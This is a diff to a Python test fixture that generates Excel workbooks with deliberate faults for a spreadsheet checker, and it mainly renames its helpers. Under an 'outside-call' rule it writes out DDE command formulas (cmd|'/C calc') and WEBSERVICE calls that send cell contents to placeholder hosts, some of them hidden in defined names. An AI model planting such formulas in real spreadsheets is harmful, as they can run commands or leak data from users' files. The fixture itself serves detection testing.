@@ -41,18 +41,18 @@ Place = str
 
 
 @dataclass(frozen=True)
-class Plant:
+class Fault:
     """A fault: what makes it, in the workbook or in a part of the written file, and where it must be found."""
 
     rule: str
     places: tuple[Place, ...]
-    sow: Callable[[Workbook], object]
+    make: Callable[[Workbook], object]
     swap: tuple[str, str, str] | None = None
     """Part, text and its replacement: what openpyxl cannot write."""
 
     def file(self, path: Path) -> Path:
         book = clean_model()
-        self.sow(book)
+        self.make(book)
         if self.rule != "line-without-label":
             label_new_lines(book)
         write(book, path)
@@ -60,7 +60,7 @@ class Plant:
 
 
 def label_new_lines(book: Workbook) -> None:
-    """Give every line that a plant has added a label, so that the plant breaks only its own rule."""
+    """Give every line that a fault has added a label, so that the fault breaks only its own rule."""
     for sheet in book:
         for row in sheet.iter_rows(min_row=4):
             figures = [cell for cell in row if cell.value is not None and not isinstance(cell.value, str)]
@@ -82,33 +82,33 @@ def swapped(path: Path, part: str, old: str, new: str) -> Path:
     return path
 
 
-PLANTS: list[Plant] = []
+FAULTS: list[Fault] = []
 LONG_LABEL = "Cost of sales with all that belongs to it, and more"
 LONG_CHINESE = "员工人数（含外包、实习与兼职人员，按期末口径统计）"
 
 
-def plant(rule: str, *places: Place, swap: tuple[str, str, str] | None = None) -> Callable[[Any], Any]:
-    def enter(sow: Callable[[Workbook], object]) -> Callable[[Workbook], object]:
-        PLANTS.append(Plant(rule, places, sow, swap))
-        return sow
+def fault(rule: str, *places: Place, swap: tuple[str, str, str] | None = None) -> Callable[[Any], Any]:
+    def enter(make: Callable[[Workbook], object]) -> Callable[[Workbook], object]:
+        FAULTS.append(Fault(rule, places, make, swap))
+        return make
 
     return enter
 
 
-def sow(rule: str, places: str, by: Callable[[Workbook], object], swap: tuple[str, str, str] | None = None) -> None:
-    """Plant a fault that is found at these places, with spaces between them."""
-    PLANTS.append(Plant(rule, tuple(places.split()), by, swap))
+def inject(rule: str, places: str, by: Callable[[Workbook], object], swap: tuple[str, str, str] | None = None) -> None:
+    """Fault a fault that is found at these places, with spaces between them."""
+    FAULTS.append(Fault(rule, tuple(places.split()), by, swap))
 
 
 def cell(rule: str, place: str, value: Any, colour: str = BLACK, shown: str = MONEY, at: str | None = None) -> None:
-    """Plant a value in one cell; it is found there, or where ``at`` says."""
+    """Fault a value in one cell; it is found there, or where ``at`` says."""
     sheet, address = place.split("!")
-    sow(rule, at or place, lambda book: put(book[sheet], address, value, colour, shown))
+    inject(rule, at or place, lambda book: put(book[sheet], address, value, colour, shown))
 
 
 def new_line(rule: str, label: str, pattern: str, place: str, colour: str = BLACK, unit: str = "USD m") -> None:
-    """Plant a line of five equal formulas in row 16 of the model."""
-    sow(rule, place, lambda book: line(book["Model"], 16, label, unit, formulas(pattern, [1.0] * 5), colour))
+    """Fault a line of five equal formulas in row 16 of the model."""
+    inject(rule, place, lambda book: line(book["Model"], 16, label, unit, formulas(pattern, [1.0] * 5), colour))
 
 
 # ---- formulas ------------------------------------------------------------------------------------------------------
@@ -118,7 +118,7 @@ cell("inconsistent-formula", "Model!F13", 0.6, BLUE)
 cell("inconsistent-formula", "Model!G14", Formula("=G8*(1+G9)", 1.0))
 
 
-@plant("inconsistent-formula", "Model!H9")
+@fault("inconsistent-formula", "Model!H9")
 def _column_of_a_table(book: Workbook) -> None:
     sheet = book["Model"]
     sheet.tables["Model"].ref = "A5:H9"
@@ -156,7 +156,7 @@ cell("unknown-function", "Model!D16", Formula("=BDP(D5)", 1.0))
 new_line("repeated-formula", "Gross profit again", "={c}6-{c}7", "Model!C16:G16")
 
 
-@plant("repeated-formula", "Checks!C7")
+@fault("repeated-formula", "Checks!C7")
 def _again_on_another_sheet(book: Workbook) -> None:
     put(book["Inputs"], "C12", Formula("=Model!G12-SUM(Model!$C$8:$G$8)", 1.0), GREEN, MONEY)
     put(book["Checks"], "C7", Formula("=Model!G12-SUM(Model!C8:G8)", 1.0), GREEN, MONEY)
@@ -167,13 +167,13 @@ def _again_on_another_sheet(book: Workbook) -> None:
 cell("circular-reference", "Model!C16", Formula("=SUM(C8:C16)", 0.0))
 
 
-@plant("circular-reference", "Model!C16:D16")
+@fault("circular-reference", "Model!C16:D16")
 def _round_a_corner(book: Workbook) -> None:
     put(book["Model"], "C16", Formula("=D16", 0.0), BLACK, MONEY)
     put(book["Model"], "D16", Formula("=D8+SUM(B16:C16)", 0.0), BLACK, MONEY)
 
 
-@plant("circular-reference", "Inputs!C12", "Model!C16")
+@fault("circular-reference", "Inputs!C12", "Model!C16")
 def _over_two_sheets_and_a_name(book: Workbook) -> None:
     book.defined_names["rate"] = DefinedName("rate", attr_text="Inputs!$C$12")
     put(book["Model"], "C16", Formula("=C8*rate", 0.0), BLACK, MONEY)
@@ -184,7 +184,7 @@ cell("external-link", "Model!C16", Formula("='[budget.xlsx]Plan'!C8", 1.0))
 cell("external-link", "Model!D16", Formula("=D8+[1]Plan!$D$8", 1.0))
 
 
-@plant("external-link", "file")
+@fault("external-link", "file")
 def _name_of_another_file(book: Workbook) -> None:
     book.defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")
 
@@ -193,21 +193,21 @@ cell("outside-call", "Model!C16", Formula("=cmd|'/C calc'!A0", 0.0))
 cell("outside-call", "Model!D16", Formula('=_xlfn.WEBSERVICE("https://example.com/"&A6)', "ok"))
 
 
-@plant("outside-call", "Model!C16", "file")
+@fault("outside-call", "Model!C16", "file")
 def _call_in_a_name(book: Workbook) -> None:
     """Where such calls are hidden."""
     book.defined_names["Quote"] = DefinedName("Quote", attr_text='_xlfn.WEBSERVICE("http://x.example/"&Inputs!$C$6)')
     put(book["Model"], "C16", Formula("=C8*Quote", 1.0), BLACK, MONEY)
 
 
-@plant("outside-call", "Model!C16", "Model", "file")
+@fault("outside-call", "Model!C16", "Model", "file")
 def _call_in_a_name_of_one_sheet_by_another_name(book: Workbook) -> None:
     book["Model"].defined_names["Tool"] = DefinedName("Tool", attr_text="cmd|'/c calc'!A0")
     book.defined_names["Other"] = DefinedName("Other", attr_text="Inputs!$C$6+RTD(1,2)")
     put(book["Model"], "C16", Formula("=C8*Tool", 1.0), BLACK, MONEY)
 
 
-@plant("external-link", "Model!C16", "Model")
+@fault("external-link", "Model!C16", "Model")
 def _other_file_in_a_name_of_one_sheet(book: Workbook) -> None:
     book["Model"].defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")
     put(book["Model"], "C16", Formula("=C8*plan", 1.0), BLACK, MONEY)
@@ -215,16 +215,16 @@ def _other_file_in_a_name_of_one_sheet(book: Workbook) -> None:
 
 CHART = "charts/chart1.xml"
 SERIES = "'Model'!$C$6:$G$6"
-sow("external-link", "Model!A20", lambda book: None, (CHART, SERIES, "[1]Plan!$C$6:$G$6"))
-sow("lost-reference", "Model!A20", lambda book: None, (CHART, SERIES, "#REF!$C$6:$G$6"))
+inject("external-link", "Model!A20", lambda book: None, (CHART, SERIES, "[1]Plan!$C$6:$G$6"))
+inject("lost-reference", "Model!A20", lambda book: None, (CHART, SERIES, "#REF!$C$6:$G$6"))
 
 
-@plant("lost-reference", "Model!C12")
+@fault("lost-reference", "Model!C12")
 def _condition_without_its_cells(book: Workbook) -> None:
     book["Model"].conditional_formatting.add("C12:G12", FormulaRule(["$C12>#REF!"]))
 
 
-@plant("lost-reference", "Model!D12")
+@fault("lost-reference", "Model!D12")
 def _list_of_a_sheet_that_is_gone(book: Workbook) -> None:
     choice = DataValidation(type="list", formula1="Lists!$A$1:$A$9")
     choice.add("D12:E12")
@@ -238,12 +238,12 @@ X14 = (
     "<xm:f>#REF!&gt;1</xm:f></x14:cfRule><xm:sqref>F12:G12</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
     "</worksheet>"
 )
-sow("lost-reference", "Model!F12", lambda book: None, ("worksheets/sheet3.xml", "</worksheet>", X14))
+inject("lost-reference", "Model!F12", lambda book: None, ("worksheets/sheet3.xml", "</worksheet>", X14))
 cell("lost-reference", "Model!C16", Formula("=C8+#REF!", 1.0))
 cell("lost-reference", "Model!D16", Formula("=Plan!D8", 1.0), GREEN)
 
 
-@plant("lost-reference", "file")
+@fault("lost-reference", "file")
 def _lost_name(book: Workbook) -> None:
     book.defined_names["gone"] = DefinedName("gone", attr_text="Inputs!#REF!")
 
@@ -252,7 +252,7 @@ def _lost_name(book: Workbook) -> None:
 
 
 def harmless(rule: str, by: Callable[[Workbook], object]) -> None:
-    sow(rule, "", by)
+    inject(rule, "", by)
 
 
 def line_of(*texts: str | float) -> Callable[[Workbook], object]:
@@ -281,7 +281,7 @@ cell("error-value", "Model!D16", "#N/A", BLUE)
 cell("reads-ahead", "Model!C11", Formula("=C8+C12", 1.0))
 
 
-@plant("reads-ahead", "Model!C16")
+@fault("reads-ahead", "Model!C16")
 def _to_the_right(book: Workbook) -> None:
     put(book["Model"], "A16", "Share of the last")
     put(book["Model"], "E16", Formula("=E8/G8", 1.0), BLACK, MONEY)
@@ -296,35 +296,35 @@ def calculated(**how: Any) -> Callable[[Workbook], object]:
 
 
 WORKBOOK = "xl/workbook.xml"
-sow("manual-calculation", "file", calculated(calcMode="manual"))
-sow("manual-calculation", "file", calculated(calcMode="manual", calcOnSave=False))
-sow("iterative-calculation", "file", calculated(iterate=True))
-sow(
+inject("manual-calculation", "file", calculated(calcMode="manual"))
+inject("manual-calculation", "file", calculated(calcMode="manual", calcOnSave=False))
+inject("iterative-calculation", "file", calculated(iterate=True))
+inject(
     "iterative-calculation",
     "file",
     calculated(iterate=True, iterateCount=3),
     (WORKBOOK, 'iterate="1"', 'iterate="true"'),
 )
-sow("precision-as-displayed", "file", calculated(fullPrecision=False))
-sow(
+inject("precision-as-displayed", "file", calculated(fullPrecision=False))
+inject(
     "precision-as-displayed",
     "file",
     calculated(fullPrecision=False),
     (WORKBOOK, 'fullPrecision="0"', 'fullPrecision="false"'),
 )
-sow("date-system-1904", "file", lambda book: setattr(book, "epoch", CALENDAR_MAC_1904))
-sow("date-system-1904", "file", lambda book: None, (WORKBOOK, "<workbookPr", '<workbookPr date1904="true"'))
+inject("date-system-1904", "file", lambda book: setattr(book, "epoch", CALENDAR_MAC_1904))
+inject("date-system-1904", "file", lambda book: None, (WORKBOOK, "<workbookPr", '<workbookPr date1904="true"'))
 
 # ---- structure -----------------------------------------------------------------------------------------------------
 
-sow("merged-cells", "Cover!A12", lambda book: book["Cover"].merge_cells("A12:C12"))
-sow("merged-cells", "Model!C16", lambda book: book["Model"].merge_cells("C16:C18"))
-sow("hidden-sheet", "Inputs", lambda book: setattr(book["Inputs"], "sheet_state", "hidden"))
-sow("hidden-sheet", "Checks", lambda book: setattr(book["Checks"], "sheet_state", "veryHidden"))
-sow("hidden-row", "Inputs!A7", lambda book: setattr(book["Inputs"].row_dimensions[7], "hidden", True))
-sow("hidden-row", "Model!A12:A13", lambda book: book["Model"].row_dimensions.group(12, 13, hidden=True))
-sow("hidden-column", "Inputs!D1", lambda book: setattr(book["Inputs"].column_dimensions["D"], "hidden", True))
-sow("hidden-column", "Model!B1", lambda book: setattr(book["Model"].column_dimensions["B"], "hidden", True))
+inject("merged-cells", "Cover!A12", lambda book: book["Cover"].merge_cells("A12:C12"))
+inject("merged-cells", "Model!C16", lambda book: book["Model"].merge_cells("C16:C18"))
+inject("hidden-sheet", "Inputs", lambda book: setattr(book["Inputs"], "sheet_state", "hidden"))
+inject("hidden-sheet", "Checks", lambda book: setattr(book["Checks"], "sheet_state", "veryHidden"))
+inject("hidden-row", "Inputs!A7", lambda book: setattr(book["Inputs"].row_dimensions[7], "hidden", True))
+inject("hidden-row", "Model!A12:A13", lambda book: book["Model"].row_dimensions.group(12, 13, hidden=True))
+inject("hidden-column", "Inputs!D1", lambda book: setattr(book["Inputs"].column_dimensions["D"], "hidden", True))
+inject("hidden-column", "Model!B1", lambda book: setattr(book["Model"].column_dimensions["B"], "hidden", True))
 
 
 def sheet_named(title: str) -> Callable[[Workbook], object]:
@@ -332,14 +332,14 @@ def sheet_named(title: str) -> Callable[[Workbook], object]:
 
 
 for title in ("Sheet1", "Tabelle2", "工作表1"):
-    sow("default-sheet-name", title, sheet_named(title))
-sow("sheet-title", "Inputs!A1", lambda book: put(book["Inputs"], "A1", None))
-sow("sheet-title", "Model!A1", lambda book: put(book["Model"], "A1", True))
+    inject("default-sheet-name", title, sheet_named(title))
+inject("sheet-title", "Inputs!A1", lambda book: put(book["Inputs"], "A1", None))
+inject("sheet-title", "Model!A1", lambda book: put(book["Model"], "A1", True))
 
 # ---- tables --------------------------------------------------------------------------------------------------------
 
 
-@plant("unmarked-table", "Inputs!A12")
+@fault("unmarked-table", "Inputs!A12")
 def _a_block_with_a_header(book: Workbook) -> None:
     header(book["Inputs"], 12)
     for row, label in ((13, "Tax"), (14, "Interest"), (15, "Rent")):
@@ -347,32 +347,32 @@ def _a_block_with_a_header(book: Workbook) -> None:
 
 
 REVENUE_LIKE = (1.0, 2.0, 3.0, 4.0, 5.0)
-sow("unmarked-table", "Inputs!A5", lambda book: book["Inputs"].tables.pop("Inputs"))
-sow("unmarked-table", "Model!A5", lambda book: book["Model"].tables.pop("Model"))
+inject("unmarked-table", "Inputs!A5", lambda book: book["Inputs"].tables.pop("Inputs"))
+inject("unmarked-table", "Model!A5", lambda book: book["Model"].tables.pop("Model"))
 TABLE = "tables/table1.xml"
-sow("table-header", "Inputs!A5", lambda book: None, (TABLE, 'headerRowCount="1"', 'headerRowCount="0"'))
-sow("table-header", "Inputs!E5", lambda book: None, (TABLE, 'name="FY2022"', 'name="FY2032"'))
-sow("column-name", "Inputs!D5:E5", lambda book: put(book["Inputs"], "E5", "FY2021", "FFFFFF"))
-sow("column-name", "Inputs!A5", lambda book: put(book["Inputs"], "A5", "Column1", "FFFFFF"))
+inject("table-header", "Inputs!A5", lambda book: None, (TABLE, 'headerRowCount="1"', 'headerRowCount="0"'))
+inject("table-header", "Inputs!E5", lambda book: None, (TABLE, 'name="FY2022"', 'name="FY2032"'))
+inject("column-name", "Inputs!D5:E5", lambda book: put(book["Inputs"], "E5", "FY2021", "FFFFFF"))
+inject("column-name", "Inputs!A5", lambda book: put(book["Inputs"], "A5", "Column1", "FFFFFF"))
 
 
 def gap_in(row: int, area: str) -> Callable[[Workbook], object]:
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         book["Inputs"].tables["Inputs"].ref = area
         if row < 9:
             line(book["Inputs"], 9, "Patents", "number", (5.0,) * 5, BLUE, COUNT)
             for column in "ABCDEFG":
                 book["Inputs"][f"{column}{row}"].value = None
 
-    return sow
+    return make
 
 
-sow("blank-row-in-table", "Inputs!A9", gap_in(9, "A5:G9"))
-sow("blank-row-in-table", "Inputs!A9:A10", gap_in(9, "A5:G10"))
+inject("blank-row-in-table", "Inputs!A9", gap_in(9, "A5:G9"))
+inject("blank-row-in-table", "Inputs!A9:A10", gap_in(9, "A5:G10"))
 
 
 def words_among_figures(*rows: int) -> Callable[[Workbook], object]:
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         sheet = book["Inputs"]
         put(sheet, "A12", "Person")
         put(sheet, "B12", "Hours")
@@ -381,31 +381,33 @@ def words_among_figures(*rows: int) -> Callable[[Workbook], object]:
             put(sheet, f"B{row}", "not counted" if row in rows else float(row), BLUE, COUNT)
         mark(sheet, "Hours", "A12:B42")
 
-    return sow
+    return make
 
 
-sow("mixed-column", "Inputs!B20", words_among_figures(20))
-sow("mixed-column", "Inputs!B14 Inputs!B30", words_among_figures(14, 30))
+inject("mixed-column", "Inputs!B20", words_among_figures(20))
+inject("mixed-column", "Inputs!B14 Inputs!B30", words_among_figures(14, 30))
 
 # ---- lines and checks ----------------------------------------------------------------------------------------------
 
-sow("line-without-label", "Model!C16", lambda book: line(book["Model"], 16, "", "", formulas("={c}8*{c}9", [1.0] * 5)))
+inject(
+    "line-without-label", "Model!C16", lambda book: line(book["Model"], 16, "", "", formulas("={c}8*{c}9", [1.0] * 5))
+)
 cell("line-without-label", "Inputs!D12", 0.25, BLUE, "0.0%")
-sow("line-without-label", "Inputs!C7", lambda book: unlabelled(book["Inputs"], 7))
+inject("line-without-label", "Inputs!C7", lambda book: unlabelled(book["Inputs"], 7))
 
 
 def unlabelled(sheet: Any, row: int) -> None:
     sheet[f"A{row}"].value = sheet[f"B{row}"].value = None
 
 
-sow("duplicate-label", "Inputs!A7", lambda book: line(book["Inputs"], 7, "Revenue", "USD m", ()))
-sow("duplicate-label", "Model!A13", lambda book: line(book["Model"], 13, "profit to date", "USD m", ()))
+inject("duplicate-label", "Inputs!A7", lambda book: line(book["Inputs"], 7, "Revenue", "USD m", ()))
+inject("duplicate-label", "Model!A13", lambda book: line(book["Model"], 13, "profit to date", "USD m", ()))
 
 
 def listed_twice(rows: int, again: int, *after: str) -> Callable[[Workbook], object]:
     """A marked table of lines, two of one label; after the figures of each line stands a text of its own, or none."""
 
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         sheet = book["Inputs"]
         header(sheet, 11, *after)
         for at in range(rows):
@@ -415,27 +417,27 @@ def listed_twice(rows: int, again: int, *after: str) -> Callable[[Workbook], obj
                 put(sheet, f"H{row}", f"{text} {at}")
         mark(sheet, "Sites", f"A11:{'H' if after else 'G'}{11 + rows}")
 
-    return sow
+    return make
 
 
-sow("duplicate-label", "Inputs!A15", listed_twice(4, 3))
-sow("duplicate-label", "Inputs!A15", listed_twice(4, 3, "Page"))  # each line with its own page
-sow("duplicate-label", "Inputs!A131", listed_twice(120, 119))  # as long as it may be
+inject("duplicate-label", "Inputs!A15", listed_twice(4, 3))
+inject("duplicate-label", "Inputs!A15", listed_twice(4, 3, "Page"))  # each line with its own page
+inject("duplicate-label", "Inputs!A131", listed_twice(120, 119))  # as long as it may be
 
 
 def without_unit(sheet: str, row: int) -> Callable[[Workbook], object]:
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         put(book[sheet], "A2", "As told by the company")
         put(book[sheet], "A16", "Backlog")
         for column, value in zip("CDE", (1.0, 2.0, 3.0), strict=True):
             put(book[sheet], f"{column}{row}", value, BLUE, COUNT)
 
-    return sow
+    return make
 
 
-sow("line-without-unit", "Inputs!C16", without_unit("Inputs", 16))
-sow("line-without-unit", "Inputs!B16", lambda book: one_input(book["Inputs"]))
-sow("line-without-unit", "Inputs!C7", lambda book: no_unit_in_table(book["Inputs"]))
+inject("line-without-unit", "Inputs!C16", without_unit("Inputs", 16))
+inject("line-without-unit", "Inputs!B16", lambda book: one_input(book["Inputs"]))
+inject("line-without-unit", "Inputs!C7", lambda book: no_unit_in_table(book["Inputs"]))
 
 
 def one_input(sheet: Any) -> None:
@@ -452,22 +454,22 @@ def no_unit_in_table(sheet: Any) -> None:
         sheet[f"{column}7"].number_format = COUNT
 
 
-sow("inputs-without-source", "Inputs!C6:C8", lambda book: put(book["Inputs"], "A3", "Audited"))
-sow("inputs-without-source", "Model!C16", lambda book: line(book["Model"], 16, "Price", "USD", (1.0, 2.0), BLUE))
-sow(
+inject("inputs-without-source", "Inputs!C6:C8", lambda book: put(book["Inputs"], "A3", "Audited"))
+inject("inputs-without-source", "Model!C16", lambda book: line(book["Model"], 16, "Price", "USD", (1.0, 2.0), BLUE))
+inject(
     "master-check",
     "Checks!C7",
     lambda book: put(book["Cover"], "B4", Formula('=IF(Checks!C6=0,"all pass","a check fails")', "all pass"), "2E7D4F"),
 )
 
 
-@plant("master-check", "Checks!C6:C7")
+@fault("master-check", "Checks!C6:C7")
 def _no_master_at_all(book: Workbook) -> None:
     put(book["Cover"], "A4", None)
     put(book["Cover"], "B4", None)
 
 
-@plant("master-check", "Checks!C8")
+@fault("master-check", "Checks!C8")
 def _a_check_left_out(book: Workbook) -> None:
     put(book["Checks"], "A8", "Check: staff is not negative")
     put(book["Checks"], "C8", Formula("=MIN(0,MIN(Inputs!C8:G8))", 0.0), GREEN, MONEY)
@@ -475,9 +477,9 @@ def _a_check_left_out(book: Workbook) -> None:
 
 # ---- colours -------------------------------------------------------------------------------------------------------
 
-sow("input-colour", "Inputs!D7", lambda book: put(book["Inputs"], "D7", 70.0, BLACK, MONEY))
-sow("input-colour", "Inputs!C8:E8", lambda book: line(book["Inputs"], 8, "Staff", "heads", STAFF_3))
-sow("input-colour", "Inputs!D13", lambda book: among_blue(book["Inputs"]))
+inject("input-colour", "Inputs!D7", lambda book: put(book["Inputs"], "D7", 70.0, BLACK, MONEY))
+inject("input-colour", "Inputs!C8:E8", lambda book: line(book["Inputs"], 8, "Staff", "heads", STAFF_3))
+inject("input-colour", "Inputs!D13", lambda book: among_blue(book["Inputs"]))
 
 
 def among_blue(sheet: Any) -> None:
@@ -495,32 +497,32 @@ cell("link-colour", "Model!D13", Formula("=D6/Inputs!D8", 0.5), BLACK)
 ASKED = '=IPO_METRIC("MiniMax","revenue",{}5)'
 cell("function-colour", "Model!C16", Formula(ASKED.format("C"), 1.0), BLACK)
 cell("function-colour", "Model!D16", Formula(ASKED.format("D"), 1.0), GREEN)
-sow("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Typed", BLUE))
-sow("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Input", BLACK))
+inject("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Typed", BLUE))
+inject("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Input", BLACK))
 
 
-@plant("colour-alone", "Model!B17:B18")
+@fault("colour-alone", "Model!B17:B18")
 def _signals(book: Workbook) -> None:
     book["Model"]["B17"].fill = PatternFill("solid", fgColor="FF0000")
     book["Model"]["B18"].fill = PatternFill("solid", fgColor="00B050")
 
 
-@plant("colour-alone", "Model!C9")
+@fault("colour-alone", "Model!C9")
 def _traffic_lights(book: Workbook) -> None:
     lights = IconSetRule("3TrafficLights1", "num", [0, 1, 2], showValue=False)
     book["Model"].conditional_formatting.add("C9:G9", lights)
 
 
-sow("contrast", "Cover!A12", lambda book: put(book["Cover"], "A12", "Quiet words", "AAAAAA"))
+inject("contrast", "Cover!A12", lambda book: put(book["Cover"], "A12", "Quiet words", "AAAAAA"))
 
 
-@plant("contrast", "Inputs!A3")
+@fault("contrast", "Inputs!A3")
 def _on_a_ground(book: Workbook) -> None:
     book["Inputs"]["A3"].fill = PatternFill("solid", fgColor="FF5050")
     book["Inputs"]["A3"].font = Font("Arial", 10, color="FFFFFF")
 
 
-@plant("contrast", "Model!C12")
+@fault("contrast", "Model!C12")
 def _when_it_is_large(book: Workbook) -> None:
     warm = FormulaRule(["C12>0"], font=Font(color="FFFF00"), fill=PatternFill(bgColor="FFFFFF", fill_type="solid"))
     book["Model"].conditional_formatting.add("C12:G12", warm)
@@ -532,20 +534,20 @@ GRID = '=IPO_SERIES("MiniMax","revenue")'
 def grid_of_texts(formula: str) -> Callable[[Workbook], object]:
     """Three periods that an array formula fills below the model, and a count of one of them."""
 
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         sheet = book["Model"]
         for row in (18, 19, 20):
             put(sheet, f"B{row}", "H1-2026", RED)
         sheet["B18"] = ArrayFormula("B18:B20", GRID)
         put(sheet, "C18", Formula(formula, 0.0), shown=COUNT)
 
-    return sow
+    return make
 
 
 FILLED = ("sheet3.xml", 'IPO_SERIES("MiniMax","revenue")</f>', 'IPO_SERIES("MiniMax","revenue")</f><v>1</v>')
-sow("grid-text-compared", "Model!C18", grid_of_texts('=COUNTIF(B18:B20,"H1-2026")'), FILLED)
-sow("grid-text-compared", "Model!C18", grid_of_texts('=IF(B19="H1-2026",1,0)'), FILLED)
-sow("grid-text-compared", "Model!C18", grid_of_texts('=MATCH("H1-2026",B$18:B$20,0)'), FILLED)
+inject("grid-text-compared", "Model!C18", grid_of_texts('=COUNTIF(B18:B20,"H1-2026")'), FILLED)
+inject("grid-text-compared", "Model!C18", grid_of_texts('=IF(B19="H1-2026",1,0)'), FILLED)
+inject("grid-text-compared", "Model!C18", grid_of_texts('=MATCH("H1-2026",B$18:B$20,0)'), FILLED)
 
 # ---- numbers -------------------------------------------------------------------------------------------------------
 
@@ -556,7 +558,7 @@ cell("negative-format", "Inputs!D7", 70.0, BLUE, "#,##0.0;-#,##0.0")
 cell("negative-format", "Inputs!E7", -0.5, BLUE, "0.0%")
 
 
-@plant("year-as-number", "Inputs!C13:G13")
+@fault("year-as-number", "Inputs!C13:G13")
 def _years_over_figures(book: Workbook) -> None:
     put(book["Inputs"], "A13", "Price list")
     for column, year in zip("CDEFG", range(2020, 2025), strict=True):
@@ -564,7 +566,7 @@ def _years_over_figures(book: Workbook) -> None:
     line(book["Inputs"], 14, "Price", "USD", REVENUE_LIKE, BLUE)
 
 
-@plant("year-as-number", "Inputs!A13:A15")
+@fault("year-as-number", "Inputs!A13:A15")
 def _years_in_a_column(book: Workbook) -> None:
     put(book["Inputs"], "A12", "Year")
     put(book["Inputs"], "B12", "Price, USD")
@@ -594,21 +596,21 @@ for typed in (
 
 # ---- accessibility -------------------------------------------------------------------------------------------------
 
-sow("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", ""))
-sow("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", "long " * 31))
+inject("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", ""))
+inject("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", "long " * 31))
 
 
-@plant("alt-text", "Inputs!C12")
+@fault("alt-text", "Inputs!C12")
 def _another_chart(book: Workbook) -> None:
     chart = LineChart()
     chart.add_data(Reference(book["Inputs"], min_col=3, max_col=7, min_row=6), from_rows=True)
     book["Inputs"].add_chart(chart, "C12")
 
 
-sow("document-title", "file", lambda book: setattr(book.properties, "title", None))
-sow("document-title", "file", lambda book: setattr(book.properties, "title", "  "))
-sow("document-language", "file", lambda book: setattr(book.properties, "language", None))
-sow("document-language", "file", lambda book: setattr(book.properties, "language", ""))
+inject("document-title", "file", lambda book: setattr(book.properties, "title", None))
+inject("document-title", "file", lambda book: setattr(book.properties, "title", "  "))
+inject("document-language", "file", lambda book: setattr(book.properties, "language", None))
+inject("document-language", "file", lambda book: setattr(book.properties, "language", ""))
 
 # ---- print and view ------------------------------------------------------------------------------------------------
 
@@ -674,28 +676,28 @@ def unfitted(sheet: Any) -> None:
     sheet.sheet_properties.pageSetUpPr.fitToPage = False
 
 
-sow("print-landscape", "Inputs", on("Inputs")(upright))
-sow("print-landscape", "Model Checks", on("Model", "Checks")(undecided))
-sow("print-width", "Inputs", on("Inputs")(paged(2, 0)))
-sow("print-width", "Model", on("Model")(unfitted))
-sow("print-titles", "Inputs", on("Inputs")(untitled))
-sow("print-titles", "Checks", on("Checks")(untitled))
-sow("footer-date", "Inputs", on("Inputs")(footed("Inputs", "&P / &N")))
-sow("footer-date", "Model", on("Model")(footed("&D", "&P / &N")))
-sow("footer-page", "Inputs", on("Inputs")(footed("As of 2025-12-31", "Inputs")))
-sow("footer-page", "Checks", on("Checks")(footed("As of 2025-12-31", "&N")))
-sow("freeze-panes", "Inputs", on("Inputs")(loosen))
-sow("freeze-panes", "Model", on("Model")(unfrozen))
-sow("print-titles", "Model", on("Model")(unrepeated))
-sow("freeze-panes", "Checks", on("Checks")(loosen))
-sow("cursor-at-a1", "Inputs", on("Inputs")(cursor("D9")))
-sow("cursor-at-a1", "file", lambda book: setattr(book, "active", 2))
-sow("cursor-at-a1", "Checks", lambda book: setattr(book["Checks"].sheet_view.pane, "topLeftCell", "C40"))
+inject("print-landscape", "Inputs", on("Inputs")(upright))
+inject("print-landscape", "Model Checks", on("Model", "Checks")(undecided))
+inject("print-width", "Inputs", on("Inputs")(paged(2, 0)))
+inject("print-width", "Model", on("Model")(unfitted))
+inject("print-titles", "Inputs", on("Inputs")(untitled))
+inject("print-titles", "Checks", on("Checks")(untitled))
+inject("footer-date", "Inputs", on("Inputs")(footed("Inputs", "&P / &N")))
+inject("footer-date", "Model", on("Model")(footed("&D", "&P / &N")))
+inject("footer-page", "Inputs", on("Inputs")(footed("As of 2025-12-31", "Inputs")))
+inject("footer-page", "Checks", on("Checks")(footed("As of 2025-12-31", "&N")))
+inject("freeze-panes", "Inputs", on("Inputs")(loosen))
+inject("freeze-panes", "Model", on("Model")(unfrozen))
+inject("print-titles", "Model", on("Model")(unrepeated))
+inject("freeze-panes", "Checks", on("Checks")(loosen))
+inject("cursor-at-a1", "Inputs", on("Inputs")(cursor("D9")))
+inject("cursor-at-a1", "file", lambda book: setattr(book, "active", 2))
+inject("cursor-at-a1", "Checks", lambda book: setattr(book["Checks"].sheet_view.pane, "topLeftCell", "C40"))
 
 # ---- widths and text -----------------------------------------------------------------------------------------------
 
 cell("number-cut", "Inputs!C7", 123456789012.0, BLUE, "#,##0.00;(#,##0.00)")
-sow("number-cut", "Inputs!D6:D8", lambda book: narrow(book["Inputs"]))
+inject("number-cut", "Inputs!D6:D8", lambda book: narrow(book["Inputs"]))
 
 
 def narrow(sheet: Any) -> None:
@@ -704,11 +706,11 @@ def narrow(sheet: Any) -> None:
     sheet["D5"].alignment = Alignment(wrap_text=True)
 
 
-sow("text-cut", "Inputs!A7", lambda book: put(book["Inputs"], "A7", LONG_LABEL))
-sow("text-cut", "Inputs!A8", lambda book: put(book["Inputs"], "A8", LONG_CHINESE))
+inject("text-cut", "Inputs!A7", lambda book: put(book["Inputs"], "A7", LONG_LABEL))
+inject("text-cut", "Inputs!A8", lambda book: put(book["Inputs"], "A8", LONG_CHINESE))
 
 
-@plant("text-cut", "Cover!A12")
+@fault("text-cut", "Cover!A12")
 def _in_a_low_row(book: Workbook) -> None:
     put(book["Cover"], "A12", "A note of several lines that is wrapped in a row with room for one only, and so is cut.")
     book["Cover"]["A12"].alignment = Alignment(wrap_text=True)
